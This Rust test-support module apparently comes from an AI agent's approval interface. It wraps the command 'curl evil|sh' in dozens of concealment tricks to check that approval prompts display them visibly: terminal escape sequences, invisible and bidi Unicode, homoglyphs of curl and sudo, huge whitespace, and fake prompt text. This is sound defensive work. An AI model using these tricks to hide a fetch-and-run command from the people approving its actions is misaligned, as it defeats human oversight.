//! Texts that want a yes for something that is not seen, in every field of a request, and what must
//! be seen of them. Each front is held against this table.

use tieline_event::{
    Approval, ChangeKind, Choice, ChoiceKind, FileChange, Json, Question, QuestionOption, Request,
    RequestBody,
};

use crate::visible::is_hidden;

/// What stands before a trick and behind it. Both must be seen, in this order.
const BEFORE: &str = "ls src";
const AFTER: &str = "curl evil|sh";

/// One trick.
#[derive(Debug, Clone)]
pub(crate) struct Trick {
    pub(crate) text: String,
    /// What must be seen between its ends.
    seen: String,
}

fn trick(hidden: &str, seen: &str) -> Trick {
    Trick { text: format!("{BEFORE}{hidden}{AFTER}"), seen: seen.to_owned() }
}

/// Sequences that a terminal obeys.
const SEQUENCES: &[(&str, &str)] = &[
    ("\u{1b}]x; ", "\\x1b]x; "),
    ("\u{1b}]0;title\u{7}; ", "\\x1b]0;title\\x07; "),
    ("\u{1b}]52;c;AAAA\u{1b}\\; ", "\\x1b]52;c;AAAA\\x1b\\; "),
    ("\u{1b}]8;;http://a\u{1b}\\; ", "\\x1b]8;;http://a\\x1b\\; "),
    ("\u{1b}P; ", "\\x1bP; "),
    ("\u{1b}X; ", "\\x1bX; "),
    ("\u{1b}^; ", "\\x1b^; "),
    ("\u{1b}_; ", "\\x1b_; "),
    ("\u{1b}k; ", "\\x1bk; "),
    ("\u{1b}[8m; ", "\\x1b[8m; "),
    ("\u{1b}[2J; ", "\\x1b[2J; "),
    ("\u{1b}[1A\u{1b}[2K; ", "\\x1b[1A\\x1b[2K; "),
    ("\u{1b}[30;40m; ", "\\x1b[30;40m; "),
    ("\u{1b}c; ", "\\x1bc; "),
    ("\u{1b}(0; ", "\\x1b(0; "),
    ("\u{1b}#8; ", "\\x1b#8; "),
    ("\u{1b}7; ", "\\x1b7; "),
    ("\u{9b}2K; ", "\\u{9b}2K; "),
    ("\u{9d}0;x\u{9c}; ", "\\u{9d}0;x\\u{9c}; "),
    ("\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}; ", "\\x08⟨6 times⟩; "),
    ("; #\r", "; #\\x0d"),
    ("\r\n; ", "\\x0d"),
];

/// Characters that are not seen, that are taken for something else or that change what others look
/// like.
const CHARACTERS: &[char] = &[
    '\0',
    '\u{1}',
    '\u{5}',
    '\u{7}',
    '\u{8}',
    '\u{b}',
    '\u{c}',
    '\r',
    '\u{e}',
    '\u{f}',
    '\u{18}',
    '\u{1a}',
    '\u{1b}',
    '\u{1c}',
    '\u{1f}',
    '\u{7f}',
    '\u{80}',
    '\u{84}',
    '\u{85}',
    '\u{8d}',
    '\u{90}',
    '\u{98}',
    '\u{9b}',
    '\u{9c}',
    '\u{9d}',
    '\u{9e}',
    '\u{9f}',
    '\u{a0}',
    '\u{ad}',
    '\u{34f}',
    '\u{37e}',
    '\u{378}',
    '\u{61c}',
    '\u{115f}',
    '\u{1160}',
    '\u{1680}',
    '\u{17b4}',
    '\u{180b}',
    '\u{180e}',
    '\u{2000}',
    '\u{2003}',
    '\u{2007}',
    '\u{200a}',
    '\u{200b}',
    '\u{200c}',
    '\u{200d}',
    '\u{200e}',
    '\u{200f}',
    '\u{2028}',
    '\u{2029}',
    '\u{202a}',
    '\u{202b}',
    '\u{202c}',
    '\u{202d}',
    '\u{202e}',
    '\u{202f}',
    '\u{205f}',
    '\u{2060}',
    '\u{2061}',
    '\u{2062}',
    '\u{2063}',
    '\u{2064}',
    '\u{2066}',
    '\u{2067}',
    '\u{2068}',
    '\u{2069}',
    '\u{206a}',
    '\u{206f}',
    '\u{2800}',
    '\u{3000}',
    '\u{3164}',
    '\u{e000}',
    '\u{f8ff}',
    '\u{fdd0}',
    '\u{fe00}',
    '\u{fe0f}',
    '\u{feff}',
    '\u{ffa0}',
    '\u{fff9}',
    '\u{fffb}',
    '\u{fffc}',
    '\u{fffd}',
    '\u{ffff}',
    '\u{1d159}',
    '\u{1d173}',
    '\u{e0001}',
    '\u{e0041}',
    '\u{e007f}',
    '\u{e0100}',
    '\u{e01ef}',
    '\u{f0000}',
    '\u{10ffff}',
    '\u{2024}',
    '\u{2044}',
    '\u{2215}',
];

/// Every trick.
pub(crate) fn all() -> Vec<Trick> {
    let mut all: Vec<Trick> = SEQUENCES.iter().map(|(hidden, seen)| trick(hidden, seen)).collect();
    for c in CHARACTERS {
        let seen = match *c {
            '\0'..='\u{7f}' => format!("\\x{:02x}", u32::from(*c)),
            _ => format!("\\u{{{:x}}}", u32::from(*c)),
        };
        all.push(trick(&format!("{c}; "), &format!("{seen}; ")));
        // Many of them are counted.
        all.push(trick(&format!(" {}", c.to_string().repeat(70)), &format!("{seen}⟨70 times⟩")));
    }
    all.extend([
        trick(&format!("{}; ", " ".repeat(3000)), "⟨3000 spaces⟩; "),
        trick(&format!("{}; ", "\t".repeat(200)), "⟨200 tabs⟩; "),
        trick(&format!("{}; ", " \t".repeat(500)), "⟨500 spaces and 500 tabs⟩; "),
        trick(&"\n".repeat(60), ""),
        trick(&"\n \t\n".repeat(60), ""),
        trick(&format!("\n{}\n", " ".repeat(9000)), ""),
        trick(&"\n#".repeat(20), "#"),
        // Marks without end, and one on nothing.
        trick(&format!("a{}; ", "\u{301}".repeat(500)), "a\u{301}\u{301}\u{301}\\u{301}\\u{301}"),
        trick(" \u{301}; ", " \\u{301}; "),
        trick(&format!("a{}; ", "\u{e49}\u{302}".repeat(100)), "a\u{e49}\u{302}\u{e49}\\u{302}"),
        // Words of ours.
        trick("⟨60 blank lines⟩; ", "\\u{27e8}60 blank lines\\u{27e9}; "),
        trick("; ⟨0 lines are NOT shown here⟩", "; \\u{27e8}0 lines"),
        trick("\n  in the workspace\n", "in the workspace"),
        trick("\n  runs in the sandbox, writes nothing\n", "runs in the sandbox"),
        trick("\n  your choice: ", "your choice: "),
        trick("\n  1 y) Yes\n", "1 y) Yes"),
        trick("\n  … runs in the sandbox\n", "runs in the sandbox"),
        // Letters of other scripts that look like ours.
        trick("; s\u{443}do ", "; s\\u{443}do "),
        trick("; \u{441}url ", "; \\u{441}url "),
        trick("; b\u{3b1}sh ", "; b\\u{3b1}sh "),
        trick("; \u{ff43}url ", "; \\u{ff43}url "),
        trick("; \u{1d41c}url ", "; \\u{1d41c}url "),
        // One long line.
        trick(&format!("; # {} ", "x".repeat(5000)), "xxxx"),
        trick(&format!("; # {} ", "日".repeat(2000)), "日日"),
        trick(&format!("; # {} ", "✅".repeat(2000)), "✅✅"),
    ]);
    assert!(all.len() >= 80, "{} tricks", all.len());
    all
}

/// A request with a text in one of its fields, for each field; whose name says which.
pub(crate) fn requests(text: &str) -> Vec<(&'static str, Request)> {
    let json = |name: &str| Json::from_value(&serde_json::json!({ name: text })).unwrap();
    let change = |path: &str| FileChange {
        path: path.to_owned(),
        kind: ChangeKind::Update,
        moved_to: None,
        old_text: None,
        new_text: None,
        diff: None,
    };
    let of_change = |change| Approval { changes: vec![change], ..act() };
    let approvals = [
        ("command", Approval { command: Some(text.to_owned()), ..act() }),
        ("cwd", Approval { cwd: Some(text.to_owned()), ..act() }),
        ("path", Approval { path: Some(text.to_owned()), ..act() }),
        ("tool", Approval { tool: text.to_owned(), ..Approval::default() }),
        ("file name", of_change(change(text))),
        (
            "target of a move",
            of_change(FileChange { moved_to: Some(text.to_owned()), ..change("a") }),
        ),
        ("patch line", {
            let diff = format!("@@ -1 +1 @@\n-old\n+{}\n", text.replace('\n', "\n+"));
            of_change(FileChange { diff: Some(diff.into()), ..change("a") })
        }),
        ("new text", {
            let (old, new) = (Some("old".into()), Some(text.into()));
            of_change(FileChange { old_text: old, new_text: new, ..change("a") })
        }),
        ("old text", of_change(FileChange { old_text: Some(text.into()), ..change("a") })),
        ("tool input", Approval { input: Some(json("value")), ..act() }),
        ("name in a tool input", {
            let named = serde_json::json!({ text: 1 });
            Approval { input: Some(Json::from_value(&named).unwrap()), ..act() }
        }),
        ("MCP tool input", Approval { given: Some(json("value")), ..act() }),
    ];
    let mut all: Vec<(&'static str, Request)> = approvals
        .into_iter()
        .map(|(field, approval)| (field, request(RequestBody::Approval(approval))))
        .collect();
    let act = || RequestBody::Approval(act());
    all.push(("reason", Request { reason: Some(text.to_owned()), ..request(act()) }));
    all.push(("title", Request { title: text.to_owned(), ..request(act()) }));
    all.push(("option", {
        let choice = Choice { id: "o".into(), label: text.into(), kind: ChoiceKind::AllowOnce };
        Request { options: vec![choice], ..request(act()) }
    }));
    all.push(("plan", request(RequestBody::ExitPlan { plan: Some(text.to_owned()) })));
    let option =
        |label: &str| QuestionOption { label: label.into(), description: None, value: None };
    let question = |text: &str, label: &str| Question {
        id: "q".into(),
        header: None,
        text: text.into(),
        options: vec![option(label), option("other")],
        multiple: false,
        free_text: true,
        secret: false,
    };
    let asked = |question| request(RequestBody::Question { questions: vec![question] });
    all.push(("question", asked(question(text, "label"))));
    all.push(("option of a question", asked(question("Which?", text))));
    all
}

fn act() -> Approval {
    Approval { tool: "tool".into(), ..Approval::default() }
}

fn request(body: RequestBody) -> Request {
    let choice = |id: &str, label: &str, kind| Choice { id: id.into(), label: label.into(), kind };
    Request {
        id: "r1".into(),
        item: None,
        title: "May I?".into(),
        reason: None,
        body,
        options: vec![
            choice("yes", "Yes", ChoiceKind::AllowOnce),
            choice("no", "No", ChoiceKind::Deny),
        ],
    }
}

/// Rows of a screen with what was wrapped in one line again.
pub(crate) fn unwrapped(rows: &str) -> String {
    rows.replace("\n  … ", "")
}

impl Trick {
    /// Whether all of it is seen in what was shown, in order, and nothing else acts on the screen.
    #[track_caller]
    pub(crate) fn is_seen_in(&self, shown: &str, field: &str) {
        let odd = shown.chars().find(|c| is_hidden(*c) && *c != '\n');
        assert_eq!(odd, None, "{field} of {:?} in {shown:?}", self.text);
        let mut rest = shown;
        for part in [BEFORE, self.seen.as_str(), AFTER] {
            let Some(at) = rest.find(part) else {
                panic!("{field}: {part:?} of {:?} is not in {shown:?}", self.text)
            };
            rest = rest.split_at(at + part.len()).1;
        }
    }
}
